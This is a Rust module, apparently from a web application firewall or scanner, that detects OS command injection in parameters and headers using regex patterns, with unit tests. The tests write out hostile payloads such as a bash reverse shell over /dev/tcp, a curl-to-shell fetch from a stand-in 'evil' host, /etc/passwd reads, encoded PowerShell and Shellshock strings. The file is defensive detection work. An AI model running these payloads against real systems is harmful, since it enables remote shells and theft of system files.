//! OS command injection: a shell separator or substitution followed by a command,
//! interpreter one-liners, reverse-shell idioms, Windows shells, and Shellshock.

use std::sync::LazyLock;

use regex::Regex;

use super::PatternSet;

use crate::normalize::shell_normalize;

/// Commands that mean little else after a shell separator.
const UNIX_COMMANDS: &str = "cat|ls|id|whoami|uname|pwd|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|ping|nslookup|dig|ifconfig|netstat|ps|kill|sleep|telnet|ssh|scp|tftp|base64|nmap|socat|busybox|awk|gawk|sed|printenv|hostname|crontab|useradd|passwd|sudo|uptime|xargs|chmod|chown|rm|mkfifo|mknod|nohup|getent|lsof|killall|pkill|systemctl|echo|printf|touch|cp|mv|tar|gzip|dd|timeout|expr";

/// Windows commands that mean little else after a separator.
const WINDOWS_COMMANDS: &str = r"cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|iwr|irm|iex|iwmi|invoke-webrequest|invoke-restmethod|invoke-wmimethod|start-bitstransfer|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|whoami|ipconfig|systeminfo|tasklist|net1?\s+(?:user|localgroup|group|view|share)|reg\s+(?:query|add|save)|schtasks|sc\s+(?:create|config|start)|nslookup|ping";

/// A separator and a command: in a parameter, any use of the command.
fn after_separator() -> String {
    format!(
        r"(?:[;|`\n\r]|&&|\|\||\$\(|(?:^|\s)&)\s*(?:[\w./\\-]*[/\\])?(?:{UNIX_COMMANDS}|{WINDOWS_COMMANDS})(?:$|[\s;&|<>'`)$]|\$\{{?ifs)"
    )
}

/// A separator, a command and an argument (an option, a path, a URL, a variable): what
/// a header needs to count, since user agents separate their tokens with `;` and
/// name platforms like `Touch` or `U; id`.
fn after_separator_with_argument() -> String {
    format!(
        r"(?:[;|`]|&&|\|\||\$\()\s*(?:[\w./\\-]*[/\\])?(?:{UNIX_COMMANDS}|{WINDOWS_COMMANDS})\s+(?:-|/|https?:|\$|\.\.|[a-z]:\\)"
    )
}

static PARAMETER_PATTERNS: LazyLock<PatternSet> = LazyLock::new(|| patterns(&after_separator()));

static HEADER_PATTERNS: LazyLock<PatternSet> =
    LazyLock::new(|| patterns(&after_separator_with_argument()));

fn patterns(separator: &str) -> PatternSet {
    PatternSet::new(&[
        (separator, "command after a shell separator"),
        (r"\$\{?ifs\}?", "`$IFS` used as a space"),
        (
            r"[<>]\(\s*[a-z_]|\$\(\(|\$\[\s*(?:\]|[\d$(])|\$\{\w*[#%/^,@]",
            "shell substitution or expansion",
        ),
        (
            r"\bfor\s+(?:/[a-z]\s+(?:[a-z]:\\\S*\s+)?(?:\\?\x22[^\x22]*\x22\s+)?)*%%?\S*\s+in\s*\(",
            "Windows `for … in (…)` loop",
        ),
        (
            r"(?:^|[;&|(]\s*)if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)\s",
            "Windows `if` statement",
        ),
        (
            r"\(\s*\)\s*\{[^}]*;\s*\}\s*;",
            "Shellshock function definition",
        ),
        (r"/dev/(?:tcp|udp)/", "bash network redirection"),
        (
            r"\b(?:bash|sh|zsh)\s+-[ic]\b",
            "interactive or inline shell",
        ),
        (
            r"\b(?:python[23]?|perl|ruby|php|node|lua)\s+-[ecr]\s",
            "interpreter one-liner",
        ),
        (
            r"\b(?:nc|ncat|netcat)\b[^;|]*\s-[a-z]*e\s",
            "netcat with -e",
        ),
        (
            r"(?:^|[\s;&|])(?:cmd(?:\.exe)?\s+/[ck]\s|powershell(?:\.exe)?\s+-(?:e(?:nc|ncodedcommand)?|c(?:ommand)?|nop|w(?:indowstyle)?|exec)\b)",
            "Windows shell invocation",
        ),
        (
            r"\b(?:invoke-expression|iex\s*\(|new-object\s+net\.webclient|downloadstring\s*\(|start-process\b)",
            "PowerShell download or execution",
        ),
    ])
}

/// Why `value`, a header, injects an OS command, if it does.
pub fn command_injection_in_header(value: &str) -> Option<String> {
    first_match(&HEADER_PATTERNS, value)
}

static LEADING_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(
        r"(?i)^\s*(?:[\w./\\-]*[/\\])?(?:time\s+|nohup\s+)?(?:{UNIX_COMMANDS}|{WINDOWS_COMMANDS})(?:\s|$)"
    ))
    .expect("valid pattern")
});

/// Why `value`, a parameter or path, injects an OS command, if it does. Shell quoting
/// that splits words (`w'h'o'am'i`) is undone first; quoting that hides a command is
/// itself the sign, so such a value counts even without a separator.
pub fn command_injection(value: &str) -> Option<String> {
    if let Some(found) = first_match(&PARAMETER_PATTERNS, value) {
        return Some(found);
    }
    let normalized = shell_normalize(value);
    if normalized == value {
        return None;
    }
    first_match(&PARAMETER_PATTERNS, &normalized)
        .or_else(|| {
            LEADING_COMMAND
                .is_match(&normalized)
                .then(|| "command".to_string())
        })
        .map(|why| format!("{why}, hidden by shell quoting (`{}`)", clip(&normalized)))
}

fn clip(s: &str) -> String {
    s.chars().take(80).collect()
}

fn first_match(patterns: &PatternSet, value: &str) -> Option<String> {
    // One word of letters and digits is no command line; words with spaces may be a
    // Windows `if exist …`.
    if value.len() < 2
        || value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b',' | b'@'))
    {
        return None;
    }
    patterns.first(value).map(str::to_string)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_injection_payloads() {
        for p in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "a && whoami",
            "$(curl http://evil/x.sh)",
            "`uname -a`",
            "1;/bin/bash -i",
            "() { :; }; /bin/bash -c 'id'",
            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
            "x & powershell -enc SQBFAFgA",
            "cmd.exe /c dir",
            "a;cat${IFS}/etc/passwd",
            "8.8.8.8 | nslookup evil.example",
            "python -c 'import os'",
            "w'h'o'a'm'i",
            "ti''me curl example.org",
            "c\\a\\t /e\\tc/passwd",
            "for /f %i in (c:\\x.txt) do type %i",
            "for %%v in (set) do command",
            "FOR /D /D %a IN (dirs) DO abc",
            "& FOR %_ IN (a,b,c) DO cmd",
            "x & if exist c:\\boot.ini echo y",
            "IF  EXIST data.xls  Echo The file was found.",
            "& FOR %- IN (a,b,c)DO cmd",
            "FOR /F \"tokens=1,2* delims=,\" %% IN (C:\\x.txt) DO ECHO %%",
            ";iwr http://example.com/path/file.ps1",
            "$(whoami$())",
            "<(cat file)",
            "${PATH#{}/}",
            "$((1+1))",
            "$[2+2]",
        ] {
            assert!(command_injection(p).is_some(), "missed {p}");
        }
    }

    #[test]
    fn headers_need_a_command_with_an_argument() {
        for agent in [
            "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119",
            "Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0) like Gecko",
            "Mozilla/5.0 (Linux; U; Android 4.0.3; ko-kr; LG-L160L Build/IML74K)",
        ] {
            assert_eq!(command_injection_in_header(agent), None, "flagged {agent}");
        }
        assert!(command_injection_in_header("x; curl http://e/s | sh").is_some());
        assert!(command_injection_in_header("() { :; }; /bin/cat /etc/passwd").is_some());
    }

    #[test]
    fn ordinary_values_are_not_command_injection() {
        for v in [
            "cat food",
            "Tom & Jerry",
            "ls",
            "id=5",
            "research; development",
            "salt & pepper; sugar",
            "the id of the user",
            "a|b",
            "bash the system",
            "O'Reilly's 'cat' book",
            "don't stop",
            "for me in (brackets) do",
            "if only",
            "if exists, fine",
            "a <b> tag",
            "price $[USD]",
        ] {
            assert_eq!(command_injection(v), None, "flagged {v}");
        }
    }
}
